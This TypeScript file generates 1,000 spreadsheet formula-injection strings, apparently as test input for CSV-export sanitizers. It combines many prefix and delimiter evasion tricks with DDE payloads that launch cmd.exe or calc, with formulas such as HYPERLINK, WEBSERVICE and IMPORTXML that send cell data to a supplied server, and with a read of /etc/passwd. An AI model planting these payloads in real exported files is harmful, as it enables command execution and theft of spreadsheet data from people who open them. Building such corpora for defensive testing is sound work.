/** What makes a spreadsheet calculate, call a program or ask another machine, if it takes a text for a formula. */
const calls = (server: string) => [
  '1+1',
  'SUM(1;2)',
  "cmd|' /C calc'!A0",
  "2+5+cmd|' /C calc'!A0",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  `HYPERLINK("${server}/leak?x="&A1,"Click")`,
  `WEBSERVICE("${server}/leak")`,
  `IMAGE("${server}/leak.png")`,
  `IMPORTXML(CONCAT("${server}/?v=",A1),"//a")`,
  `IMPORTDATA("${server}/leak")`,
  `DDE("soffice";"${server}/leak.ods";"Sheet1.A1")`,
  `'file:///etc/passwd'#$passwd.A1`,
  `'${server}/leak.ods'#$Sheet1.A1`,
  'INDIRECT("A1")',
  'CELL("filename")',
  'A1',
  '[1]Sheet1!A1',
  'cmd|A!A',
  '10*10',
];

/** What comes before: the marks themselves, and what a program may overlook before one. */
const begins = [
  ...[
    '=',
    '+',
    '-',
    '@',
    '\t=',
    '\r=',
    '\n=',
    ' =',
    '\u00a0=',
    '\u200b=',
    '\ufeff=',
    '\u0000=',
    '==',
    '=+',
    '-+',
  ],
  ...['+=', '@=', '＝', '＋', '－', '＠', '−', '"=', "'=", '\u3000=', '\u202e=', '{='],
  // Where a program divides at something else than the writer.
  ...['a;=', 'a\t=', 'a\n=', 'a;"=', 'a\n-', 'a;@', 'a\r\n=', 'a";=', 'a\n"=', 'a;-', 'a;+', '",=', '"\n='],
  ...['%=', '|=', '\v=', '\f=', '\u2028=', '\u2029=', 'a;＝', 'a; =', "a;'=", 'x =', '\\='],
];

/** 1,000 texts, each of which may be a formula to someone. `server` is what they would ask, if any did. */
export function injections(server: string): string[] {
  const all = begins.flatMap((begin) => calls(server).map((call) => begin + call));
  return all.slice(0, 1000);
}
